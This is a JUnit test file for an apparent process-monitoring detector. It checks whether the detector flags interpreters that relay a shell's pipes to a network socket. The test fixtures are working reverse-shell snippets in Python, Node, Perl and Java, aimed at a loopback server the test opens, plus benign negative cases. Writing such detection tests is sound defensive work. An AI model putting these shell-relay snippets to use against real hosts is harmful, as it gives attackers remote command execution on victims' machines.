package io.totem.policy.behaviour;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import io.totem.policy.facts.Relations.ShellRelay;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Shells whose pipes an interpreter carries to a connection, done for real over the loopback, and what looks like it. */
class RealShellRelayTest {

    private static final String PYTHON_SPAWNS = """
            import socket, subprocess, threading
            s = socket.create_connection(('127.0.0.1', %d))
            p = subprocess.Popen(%s, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            def back():
                while True: s.sendall(p.stdout.read1(4096))
            threading.Thread(target=back, daemon=True).start()
            while True: p.stdin.write(s.recv(4096)); p.stdin.flush()
            """;

    private final WatchedHost host = new WatchedHost();

    @TempDir
    Path folder;

    @AfterEach
    void end() throws InterruptedException {
        host.close();
    }

    @ParameterizedTest
    @ValueSource(strings = {"['sh']", "['bash', '-i']", "['sh', '-c', 'sh; true']"})
    void a_shell_whose_pipes_python_carries_to_a_connection(String command) throws IOException {
        assertCarried("python3", "-c", PYTHON_SPAWNS, command);
    }

    @Test
    void a_shell_whose_pair_of_sockets_node_carries_to_a_connection() throws IOException {
        assumeThat(Files.isExecutable(Path.of("/usr/bin/node"))).isTrue();
        assertCarried("/usr/bin/node", "-e", """
                const c = require("net").connect(%d, "127.0.0.1", () => {
                    const sh = require("child_process").spawn(%s, []);
                    c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
                """, "\"/bin/sh\"");
    }

    @Test
    void a_shell_whose_pipes_perl_carries_to_a_connection() throws IOException {
        assertCarried("perl", "-MIO::Socket::INET", "-MIPC::Open2", "-e", """
                my $s = IO::Socket::INET->new(PeerAddr => '127.0.0.1:%d');
                open2(my $out, my $in, %s);
                if (fork) { syswrite $in, $_ while sysread $s, $_, 4096 } else { close $in; syswrite $s, $_ while sysread $out, $_, 4096 }
                """, "'/bin/sh'");
    }

    @Test
    void a_shell_whose_pipes_java_carries_to_a_connection() throws IOException {
        Path source = folder.resolve("Carrier.java");
        Files.writeString(source, """
                void main(String[] arguments) throws Exception {
                    var socket = new java.net.Socket("127.0.0.1", Integer.parseInt(arguments[0]));
                    var shell = new ProcessBuilder("/bin/sh").start();
                    Thread.startVirtualThread(() -> {
                        try { shell.getInputStream().transferTo(socket.getOutputStream()); } catch (Exception e) { }
                    });
                    socket.getInputStream().transferTo(shell.getOutputStream());
                }
                """);
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Process java = host.start(
                    Path.of(System.getProperty("java.home"), "bin/java").toString(),
                    "-Xmx64m",
                    source.toString(),
                    Integer.toString(server.getLocalPort()));
            try (Socket _ = server.accept()) {
                assertCarriedBy(java, server.getLocalPort());
            }
        }
    }

    @Test
    void a_shell_whose_parent_has_left_it_to_another_interpreter() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Process python = host.start("python3", "-c", """
                    import os, socket, subprocess
                    s = socket.create_connection(('127.0.0.1', %d))
                    down, up = os.pipe(), os.pipe()
                    if os.fork() == 0:
                        subprocess.Popen(['sh'], stdin=down[0], stdout=up[1])
                        os._exit(0)
                    os.wait()
                    while True: os.write(down[1], s.recv(4096))
                    """.formatted(server.getLocalPort()));
            try (Socket _ = server.accept()) {
                host.anywhere(seen -> seen.relations()
                        .shellRelay()
                        .filter(shellRelay -> shellRelay.pid() == python.pid())
                        .isPresent());
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "['sh', '-c', 'sleep 60; true']",
                "['sh', '-c', 'while read -r line; do echo; done']",
                "['python3', '-c', 'import time; time.sleep(60)']",
                "['cat']"
            })
    void what_an_interpreter_with_a_connection_runs_by_a_text_of_its_own_is_not_told_by_it(String command)
            throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Process python = host.start("python3", "-c", PYTHON_SPAWNS.formatted(server.getLocalPort(), command));
            try (Socket _ = server.accept()) {
                host.neverBelow(
                        python, "python3", seen -> seen.relations().shellRelay().isPresent());
            }
        }
    }

    @Test
    void a_shell_that_is_fed_by_an_interpreter_without_a_connection_is_not_told_by_anybody() {
        Process python = host.start(
                "python3",
                "-c",
                "import subprocess, time\n"
                        + "p = subprocess.Popen(['bash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
                        + "time.sleep(60)");
        host.neverBelow(python, "bash", seen -> seen.relations().shellRelay().isPresent());
    }

    private void assertCarried(String... programAndSpawned) throws IOException {
        int texts = programAndSpawned.length - 2;
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            String text = programAndSpawned[texts].formatted(server.getLocalPort(), programAndSpawned[texts + 1]);
            Process shellRelay =
                    host.start(Stream.concat(Stream.of(programAndSpawned).limit(texts), Stream.of(text))
                            .toArray(String[]::new));
            try (Socket _ = server.accept()) {
                assertCarriedBy(shellRelay, server.getLocalPort());
            }
        }
    }

    private void assertCarriedBy(Process shellRelay, int port) {
        assertThat(host.below(shellRelay, seen -> seen.relations().shellRelay().isPresent())
                        .relations()
                        .shellRelay())
                .map(ShellRelay::connection)
                .hasValueSatisfying(
                        connection -> assertThat(connection.remotePort()).isEqualTo(port));
    }
}
